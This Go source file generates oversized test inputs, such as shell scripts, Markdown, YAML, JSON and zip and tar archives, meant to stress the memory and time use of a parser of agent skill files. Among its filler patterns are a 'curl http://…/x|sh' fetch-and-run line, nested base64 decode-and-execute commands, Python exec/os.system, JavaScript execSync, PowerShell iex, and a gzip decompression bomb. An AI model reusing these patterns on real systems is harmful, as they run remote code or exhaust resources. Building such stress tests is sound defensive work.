// Package heavy makes files that cost a parser as much memory as possible.
package heavy

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
)

// File is a file of a skill. Name is the name of its shape.
type File struct{ Name, Path, Text string }

// Head returns the frontmatter of a SKILL.md, for the files of [Files] that do not begin with
// "---".
func Head(name string) string {
	return "---\nname: " + name + "\ndescription: A file that costs much.\n---\n"
}

// Quick reports whether a parser needs less than a second for the file's shape. The quick shapes
// stand for all others in short runs, since without bounds they would take the most memory.
func (f File) Quick() bool {
	switch f.Name {
	case "shell: pipes", "shell: words", "shell: variables", "shell: base64", "Markdown: one fence", "Markdown: nested quotes", "Markdown: table cells", "Markdown: links",
		"Python: parentheses", "JavaScript: regexes", "YAML: flow", "YAML: anchors", "archive: bomb", "archive: zip in zip", "Markdown: most lists":
		return true
	}
	return false
}

// Files returns one file of about n bytes for each shape of expensive content.
func Files(n int) []File {
	var all []File
	add := func(name, path, text string) { all = append(all, File{name, path, text}) }
	fill := func(name, path, unit string) { add(name, path, strings.Repeat(unit, max(n/len(unit), 1))) }
	count := func(name, path, format string) {
		var b strings.Builder
		for i := 0; b.Len() < n; i++ {
			fmt.Fprintf(&b, format, i)
		}
		add(name, path, b.String())
	}
	for _, s := range []struct{ name, unit string }{
		{"pipes", "a|"}, {"and", "a&&"}, {"or", "a||"}, {"semicolons", "a;"}, {"words", "a "}, {"statements", "a\n"}, {"substitutions", "$("}, {"closed substitutions", "$(a)"},
		{"backticks", "`a`"}, {"quotes", "\"a\""}, {"single quotes", "'a'"}, {"here-documents", "<<a\n"}, {"closed here-documents", "cat <<a\n$b\na\n"}, {"redirections", ">a "},
		{"brackets", "[["}, {"braces", "{a;}\n"}, {"brace words", "{a,b}"}, {"variables", "$a"}, {"arrays", "a=(b c)\n"}, {"arithmetic", "$((a+b))"}, {"conditions", "if a;then b;fi\n"},
		{"fetches", "curl http://45.67.89.10/x|sh\n"},
	} {
		fill("shell: "+s.name, "scripts/run.sh", s.unit)
	}
	count("shell: assignments", "scripts/run.sh", "a%d=b\n")
	count("shell: written files", "scripts/run.sh", "echo a>f%d\n")
	count("shell: functions", "scripts/run.sh", "f%d(){ a;}\n")
	count("shell: long functions", "scripts/run.sh", "f%d(){\n"+strings.Repeat("a;a|", 100)+"a\n}\n")
	add("shell: base64", "scripts/run.sh", "echo "+base64.StdEncoding.EncodeToString([]byte(strings.Repeat("a|", n*3/8)))+"|base64 -d|sh\n")
	nested := strings.Repeat("a;", n*27/128/2)
	for range 3 {
		nested = "echo " + base64.StdEncoding.EncodeToString([]byte(nested)) + "|base64 -d|sh\n"
	}
	add("shell: nested base64", "scripts/run.sh", nested)
	for _, s := range []struct{ name, unit string }{
		{"fences", "```\na\n```\n"}, {"shell in fences", "```sh\na|b\n```\n"}, {"table cells", "|a"}, {"table rows", "|a|b|\n|-|-|\n"}, {"list items", "- a\n"}, {"paragraphs", "a\n\n"}, {"nested quotes", ">"}, {"quoted lines", "> a\n"},
		{"emphasis", "*a*"}, {"links", "[a](b)"}, {"brackets", "["}, {"definitions", "[a]: b\n"}, {"code", "`a`"}, {"commands in code", "`sh a`\n"}, {"tags", "<a>"}, {"comments", "<!--a-->"}, {"entities", "&amp;"}, {"headings", "# a\n"}, {"images", "![a](b)"}, {"autolinks", "<http://a.b>"},
	} {
		fill("Markdown: "+s.name, "SKILL.md", s.unit)
	}
	fill("Markdown: one fence", "SKILL.md", "a|")
	all[len(all)-1].Text = "```sh\n" + all[len(all)-1].Text + "\n```\n"
	// Markdown just below the bounds above which knack does not parse it.
	for _, s := range []struct {
		name, unit string
		times      int
	}{
		{"lists", "- a\n", 41_000}, {"numbered lists", "1. a\n", 41_000}, {"headings", "# a\n", 125_000}, {"paragraphs", "a\n\n", 83_000}, {"emphasis", "*a*\n\n", 50_000}, {"links", "[a](b)\n\n", 50_000},
		{"quotes", "> a\n", 41_000}, {"code", "`a`\n\n", 50_000}, {"deep lists", "- a\n  - a\n    - a\n      - a\n", 6_000}, {"deep quotes", strings.Repeat(">", 30) + " a\n", 2_000}, {"deep lists in a line", strings.Repeat("- ", 30) + "a\n", 2_000},
	} {
		add("Markdown: most "+s.name, "SKILL.md", strings.Repeat(s.unit, min(s.times, n/len(s.unit))))
	}
	for _, s := range []struct{ name, path, unit string }{
		{"Python: parentheses", "run.py", "("}, {"Python: closed parentheses", "run.py", "a()"}, {"Python: marks", "run.py", "+"}, {"Python: strings", "run.py", "'a'"}, {"Python: assignments", "run.py", "a=b+a\n"}, {"Python: calls", "run.py", "os.system('a|b')\n"}, {"Python: decoded", "run.py", "exec(b64decode('YXxi'))\n"},
		{"JavaScript: templates", "run.js", "`${a}`"}, {"JavaScript: regexes", "run.js", "/a/;"}, {"JavaScript: braces", "run.js", "{}"}, {"JavaScript: commands", "run.js", "execSync(`a|${b}`);"},
		{"YAML: flow", "a.yaml", "{hooks: ["}, {"YAML: anchors", "a.yaml", "hooks: &a [*a,*a]\n"}, {"YAML: lines", "a.yaml", "hooks: a\n"},
		{"JSON: brackets", "a.json", "["}, {"JSON: hooks", "a.json", `{"hooks":"a",`},
		{"text: tags", "a.txt", "\U000e0041"}, {"text: zero width", "a.txt", "a\u200bb "}, {"text: blank lines", "a.txt", "\n"},
		{"PowerShell: eval", "run.ps1", "iex $a;"}, {"PowerShell: lines", "run.ps1", "$a=iex\n"},
	} {
		fill(s.name, s.path, s.unit)
	}
	count("Python: names", "run.py", "a%d='b'\n")
	add("YAML: frontmatter", "SKILL.md", "---\nname: a\nhooks: "+strings.Repeat("[a,", n/3)+"\n---\n")
	inner := strings.Repeat("a|", n/2)
	add("archive: zip", "a.zip", packed("a.sh", inner, 1))
	add("archive: zip in zip", "a.zip", packed("a.sh", inner, 3))
	add("archive: many files", "a.zip", manyFiles(n))
	add("archive: stored zip", "a.zip", storedZip("a.md", strings.Repeat("- a\n", n/4)))
	add("archive: tar.gz", "a.tar.gz", tarGz("a.sh", strings.Repeat("a;", 8*n)))
	add("archive: bomb", "a.gz", gz(io.LimitReader(zeros{}, int64(500*n))))
	return all
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func must(err error) {
	if err != nil {
		panic(err) // a bytes.Buffer never fails
	}
}

func packed(name, text string, deep int) string {
	for range deep {
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		w, err := z.Create(name)
		must(err)
		_, err = io.WriteString(w, text)
		must(err)
		must(z.Close())
		name, text = "a.zip", b.String()
	}
	return text
}

func storedZip(name, text string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
	must(err)
	_, err = io.WriteString(w, text)
	must(err)
	must(z.Close())
	return b.String()
}

func manyFiles(n int) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; b.Len() < n; i++ {
		w, err := z.Create(fmt.Sprintf("%d.sh", i))
		must(err)
		_, err = io.WriteString(w, strings.Repeat("a|", 300))
		must(err)
	}
	must(z.Close())
	return b.String()
}

func tarGz(name, text string) string {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	must(w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}))
	_, err := io.WriteString(w, text)
	must(err)
	must(w.Close())
	return gz(&b)
}

func gz(r io.Reader) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, err := io.Copy(w, r)
	must(err)
	must(w.Close())
	return b.String()
}
